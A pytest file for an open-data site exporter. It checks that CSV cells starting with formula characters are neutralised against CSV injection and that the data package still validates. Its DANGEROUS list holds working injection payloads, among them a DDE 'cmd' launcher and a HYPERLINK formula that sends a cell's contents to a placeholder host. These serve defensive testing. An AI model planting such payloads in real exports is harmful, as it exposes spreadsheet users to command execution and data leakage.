"""Open data CSV: a text that a spreadsheet would run as a formula is neutralised (OWASP, CSV Injection), in the
one place cells are written; numbers stay numbers and Frictionless still validates the package."""

from __future__ import annotations

import csv
import io
import re

import pytest
from frictionless import validate

from roadmap_site import exports, load
from roadmap_site.exports.columns import cell
from roadmap_site.history import History

# What a spreadsheet runs or reads as a formula when a cell starts with it (OWASP's list).
DANGEROUS = [
    "=1+1",
    "=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Cliquez\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+33 5 65 00 00 00",
    "=",
    "-5-5",
    "+3e",
]
NUMBERS = ["-5", "+3", "-0.15", "+.5", "-1e5", "1E+3", "0", "4000"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_becomes_text(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_written_as_text_stays_a_number(value):
    assert cell(value) == value


@pytest.mark.parametrize("value", [-5, -0.15, -4000.0, 3])
def test_negative_numbers_stay_numbers(value):
    assert not cell(value).startswith("'")
    assert float(cell(value)) == value


@pytest.mark.parametrize("value", ["texte", "'déjà cité", " =1+1", "Santé = priorité", "1-2", "a@b.fr"])
def test_other_texts_are_left_alone(value):
    assert cell(value) == value


def _set(path, key: str, value: str) -> None:
    """Replace the top-level line `key: …` of a record with a double-quoted value."""
    text = path.read_text(encoding="utf-8")
    quoted = value.replace("\\", "\\\\").replace('"', '\\"')
    new, count = re.subn(rf"(?m)^{key}:.*$", lambda _: f'{key}: "{quoted}"', text, count=1)
    assert count == 1
    path.write_text(new, encoding="utf-8")


@pytest.mark.parametrize("value", [v + " : outils numériques" for v in DANGEROUS[:5]])
def test_a_hostile_title_is_neutralised_in_the_files_and_the_package_still_validates(project, value):
    _set(next((project / "actions").glob("01-*.yml")), "intitule", value)
    files = exports.files(load(project), history=History(False, False, "sans historique", ()))
    actions = list(csv.DictReader(io.StringIO(files["donnees/actions.csv"].decode("utf-8"), newline="")))
    assert next(row for row in actions if row["numero"] == "1")["intitule"] == "'" + value
    every_cell = [c for name, data in files.items() if name.endswith(".csv")
                  for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]
    assert not [c for c in every_cell if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not re.fullmatch(r"-[\d.eE+-]+", c))]
    folder = project / "sortie"
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    report = validate(str(folder / "donnees" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
